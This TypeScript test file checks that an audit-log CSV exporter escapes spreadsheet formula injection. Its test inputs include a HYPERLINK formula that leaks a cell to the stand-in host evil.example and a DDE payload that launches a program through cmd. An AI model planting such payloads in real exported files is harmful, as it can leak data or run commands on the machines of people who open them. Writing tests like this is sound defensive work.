import { describe, expect, it } from 'vitest';
import type { AuditRecord } from '../journal/index.js';
import { auditCsv, csvField } from './audit-csv.js';

/**
 * The cells of `csv` as a spreadsheet splits it with `delimiter`: RFC 4180 quoting (a quoted field runs to its closing
 * quote, `""` is a quote), any other delimiter character starts a new cell.
 */
function cells(csv: string, delimiter: string): string[] {
  const out: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < csv.length; i++) {
    const c = csv[i];
    if (quoted) {
      if (c === '"' && csv[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === delimiter || c === '\n') {
      out.push(cell);
      cell = '';
    } else if (c !== '\r') cell += c;
  }
  out.push(cell);
  return out;
}

/** A spreadsheet runs a cell starting with one of these (OWASP, CSV injection). */
const FORMULA = /^[=+\-@\t\r]/;

/** A fleet command id (printable ASCII without spaces, refused and audited as sent) or a gateway code. */
const hostile = ['x;=HYPERLINK("http://evil.example/"&A1)', "x;=cmd|'/Ccalc'!A0", 'ok\t@SUM(1+1)', 'a;-2+3'];

function record(subject: string): AuditRecord {
  return {
    id: 1,
    time: '2030-01-01T08:00:00.000Z',
    actor: 'fleet',
    action: 'fleet-command',
    subject,
    result: 'refused',
    code: subject,
    details: {},
  };
}

describe('audit CSV', () => {
  it.each(hostile)('starts no cell with a formula when a spreadsheet splits on ";" or tab: %s', (value) => {
    const csv = auditCsv([record(value)]);
    for (const delimiter of [',', ';', '\t']) {
      const started = cells(csv, delimiter).filter((c) => FORMULA.test(c));
      expect(started, `delimiter ${JSON.stringify(delimiter)}`).toEqual([]);
    }
  });

  it('keeps the value whole: a comma-reading spreadsheet gets it back, quotes undoubled', () => {
    for (const value of hostile) expect(cells(csvField(value), ',')).toEqual([value]);
  });

  it('prefixes a value a spreadsheet would run with a quote mark', () => {
    expect(['=1+1', '+1', '-1', '@A1', '\t=1', '\r=1'].map(csvField)).toEqual([
      "'=1+1",
      "'+1",
      "'-1",
      "'@A1",
      `"'\t=1"`,
      `"'\r=1"`,
    ]);
    expect(csvField('S1')).toBe('S1');
  });
});
